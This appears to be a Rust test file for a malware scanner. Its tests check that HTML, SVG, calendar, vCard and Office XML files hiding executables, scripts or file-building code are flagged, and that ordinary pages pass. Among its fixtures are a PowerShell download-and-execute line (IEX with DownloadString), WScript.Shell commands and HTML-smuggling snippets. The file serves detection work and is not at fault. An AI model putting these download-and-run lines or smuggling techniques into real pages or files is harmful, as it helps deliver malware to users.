use super::samples::base64;
use super::{PROGRAM, check};
use crate::Class::{ActivePage, Program, Script};

#[test]
fn ordinary_pages_are_harmless() {
    let newsletter = "<!DOCTYPE html><html><head><meta http-equiv=\"Content-Type\" \
        content=\"text/html\"><style>p{}</style></head><body onload=\"a()\"><p>Our news: data: 5, 6 \
        <img src=\"data:image/png;base64,iVBORw0KGgo=\"><a href=\"https://a.example\">more</a>";
    check("a.html", newsletter.as_bytes(), &[]);
    let script = "<html><script>document.getElementById('a').hidden = true;</script></html>";
    check("a.html", script.as_bytes(), &[]);
    let picture = format!(
        "<html><script>eval('a')</script><img src='data:image/png;base64,{}'>",
        "A".repeat(5_000)
    );
    check("a.html", picture.as_bytes(), &[]);
    let lines = picture.replace(&"A".repeat(5_000), &format!("{}\r\n", "A".repeat(76)).repeat(60));
    check("a.html", lines.as_bytes(), &[]);
    let link = "<a download='a.txt' href='data:text/plain;base64,QUFB'>a</a><script>a()</script>";
    check("a.html", link.as_bytes(), &[]);
    let shown = "<script>i.src = 'data:image/png;base64,' + b; w = ['a', 'b'].join(' ')</script>";
    check("a.html", shown.as_bytes(), &[]);
    check(
        "a.svg",
        b"<svg xmlns='http://www.w3.org/2000/svg'><rect id='on' fill='none'/></svg>",
        &[],
    );
    check("", b"<?xml version='1.0'?><invoice><online>yes</online></invoice>", &[]);
    check("a.md", b"# How\nUse `new Blob` and `createObjectURL` with care.", &[]);
}

#[test]
fn pages_that_build_files_are_found() {
    let rules = [(ActivePage, "page builds a file")];
    for text in [
        "<html><script>var b = new Blob([d]); a.href = URL.createObjectURL(b)</script>",
        "<script>navigator.msSaveOrOpenBlob(b, 'a.zip')</script>",
        "<SCRIPT>NAVIGATOR.MSSAVEBLOB(b)</SCRIPT>",
        "<script>a.download=\"a.zip\";a.href=u;a.click()</script>",
        "<script>a.setAttribute('download', 'a.zip')</script>",
        "<script>a.href=\"data:application/octet-stream;base64,\" + d</script>",
        "<script>a.href=`data:application/octet-stream;base64,${d}`</script>",
        "<script>a['download']='a.zip';a.click()</script>",
    ] {
        check("a.html", text.as_bytes(), &rules);
        check("", text.as_bytes(), &rules);
        let wide: Vec<u8> =
            format!("\u{FEFF}{text}").encode_utf16().flat_map(u16::to_le_bytes).collect();
        check("a.htm", &wide, &rules);
    }
    let long = format!("<html><script>f(atob('{}'))</script>", "QUFB".repeat(600));
    check("a.html", long.as_bytes(), &rules);
    let pieces = |joint: &str| vec!["QUFB".repeat(20); 40].join(joint);
    for joint in ["\"+\"", "\" +\r\n    \"", "','", "\\\n"] {
        let page = format!("<html><script>f(atob(\"{}\"))</script>", pieces(joint));
        check("a.html", page.as_bytes(), &rules);
    }
    // What is no page by its beginning is one to a browser by its name.
    check("a.html", b"GIF89a<script>new Blob([a])</script>", &rules);
}

#[test]
fn addresses_with_content_are_looked_into() {
    let page = |kind: &str| {
        format!("<a download href=\"data:{kind};base64,{}\">open</a>", base64(PROGRAM))
    };
    check("a.html", page("application/octet-stream").as_bytes(), &[(Program, "magic mz")]);
    let rules = [(Program, "magic mz"), (Script, "type application/hta")];
    check("a.html", page("application/hta").as_bytes(), &rules);
    let inner = "<a href='data:text/html,%3Cscript%3Enew%20Blob(a)%3C/script%3E'>";
    check("a.html", inner.as_bytes(), &[(ActivePage, "page builds a file")]);
    let refresh = b"<meta http-equiv='refresh' content='0; url=javascript:a()'>";
    check("a.html", refresh, &[(ActivePage, "page refreshes to content")]);
    let refresh = b"<META CONTENT='0;url=JavaScript:a()' HTTP-EQUIV = \"Refresh\">";
    check("a.html", refresh, &[(ActivePage, "page refreshes to content")]);
    check("a.html", b"<meta http-equiv=refresh content='5; url=https://a.example/'>", &[]);
    check(
        "a.html",
        b"<html><script>location='search-ms:a'</script>",
        &[(ActivePage, "page starts a program")],
    );
    check("a.html", b"<script>new ActiveXObject('a')</script>", &[(Script, "page desktop script")]);
    let typed = b"<script type=\"text/vbscript\">MsgBox 1</script>";
    check("a.html", typed, &[(Script, "page desktop script")]);
    let named = b"<a href='data:text/plain;base64,QUFB' download = \"invoice.exe\">open</a>";
    check("a.html", named, &[(Program, "name exe")]);
    let long = format!("<a href='data:;base64,{}' download=invoice.exe>open</a>", "A".repeat(600));
    check("a.html", long.as_bytes(), &[(Program, "name exe")]);
    let elsewhere = b"<a download=setup.exe href='https://a.example/setup.exe'>open</a>";
    check("a.html", elsewhere, &[]);
    check("a.html", b"<p>We download=ed.</p><a download href='b.txt'>open</a>", &[]);
    let tracked = format!("<a href=\"https://a.example/{}&download=b.exe\">", "x".repeat(600));
    check("a.html", tracked.as_bytes(), &[]);
    let links = "<a href='https://a.example/download/b.pdf'>b</a>\n".repeat(1_500);
    check("a.html", links.as_bytes(), &[]);
    // What is saved may be saved under any name, whatever type its address says.
    let saved =
        format!("<a download='f\u{e4}.exe' href='data:image/png;base64,{}'>", base64(PROGRAM));
    let saved = saved.replace('\u{e4}', "\u{1}");
    let saved: Vec<u8> = saved.bytes().map(|b| if b == 1 { 0xE4 } else { b }).collect();
    check("a.html", &saved, &[(Program, "magic mz"), (Program, "name exe")]);
}

#[test]
fn office_documents_in_one_file_are_known() {
    let flat = b"<?xml version=\"1.0\"?><pkg:package><pkg:part pkg:name=\"/word/vbaProject.bin\"/>";
    check("a.xml", flat, &[(crate::Class::Macro, "xml document with macros")]);
    let old = b"<?mso-application progid=\"Word.Document\"?><w:binData w:name=\"editdata.mso\">";
    check("a.xml", old, &[(crate::Class::Macro, "xml document with macros")]);
}

#[test]
fn pictures_with_script_are_found() {
    let rules = [(ActivePage, "picture with script")];
    for text in [
        "<svg><script>a()</script></svg>",
        "<?xml version='1.0'?><svg onload = 'a()'/>",
        "<svg><a href='javascript:a()'/></svg>",
        "<svg><foreignObject/></svg>",
        "<!DOCTYPE svg [<!ENTITY a 'b'>]><svg>&a;</svg>",
    ] {
        check("a.svg", text.as_bytes(), &rules);
        check("", text.as_bytes(), &rules);
    }
}

#[test]
fn calendars_and_cards_are_looked_into() {
    let invitation = b"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:a; b: c\r\n\
        DESCRIPTION:Please see\r\n  https://a.example\r\nATTENDEE;CN=\"a: b\":mailto:a@b.example\r\n\
        X-ALT-DESC;FMTTYPE=text/html:<html><body>Hello\\, you</body></html>\r\nURL:https://a\r\n\
        ATTACH;FMTTYPE=application/pdf:https://a.example/b.pdf\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
    check("invite.ics", invitation, &[]);
    let encoded = base64(PROGRAM);
    let (head, tail) = encoded.split_at(9);
    let event = format!(
        "BEGIN:VCALENDAR\r\nATTACH;FMTTYPE=application/x-msdownload;X-FILENAME=\"a.exe\";\r\n \
         ENCODING=BASE64;VALUE=BINARY:{head}\r\n {tail}\r\nEND:VCALENDAR\r\n"
    );
    let rules =
        [(Program, "magic mz"), (Program, "name exe"), (Program, "type application/x-msdownload")];
    check("a.ics", event.as_bytes(), &rules);
    let card = format!("BEGIN:VCARD\nVERSION:4.0\nKEY:data:application/x-sh;base64,{encoded}\n");
    check("", card.as_bytes(), &[(Program, "magic mz"), (Script, "type application/x-sh")]);
    let photo =
        format!("BEGIN:VCARD\nPHOTO;ENCODING=b;TYPE=PNG:{}\n", base64(b"\x89PNG\r\n\x1A\n"));
    check("a.vcf", photo.as_bytes(), &[]);
    let start = b"BEGIN:VCALENDAR\nATTACH:file://a.example/b\nEND:VCALENDAR";
    check("a.ics", start, &[(ActivePage, "calendar address")]);
}

#[test]
fn scripts_under_other_names_are_found() {
    let text = b"Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"cmd.exe /c a\"\r\n";
    check("a.txt", text, &[(Script, "magic script")]);
    for short in [
        "var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"a\");\n",
        "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"a\"\n",
        "$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://a.example/')\n",
    ] {
        check("film.mp4", short.as_bytes(), &[(Script, "magic script")]);
    }
    for about in [
        "We use powershell.exe and Start-Process.\n",
        "The function CreateObject( ) makes an object.\n",
        "Every New-Object needs %TEMP%\\ to be there.\n",
        "class A {\n  void downloadFile(String a) { b = createObject(a); }\n}\n",
        "procedure A;\nbegin\n  DownloadFile(a);\n  b.SaveToFile(c);\nend;\n",
        "iex(1)> IO.puts \"a\"\niex(2)> :ok\n",
    ] {
        check("a.txt", about.as_bytes(), &[]);
    }
}
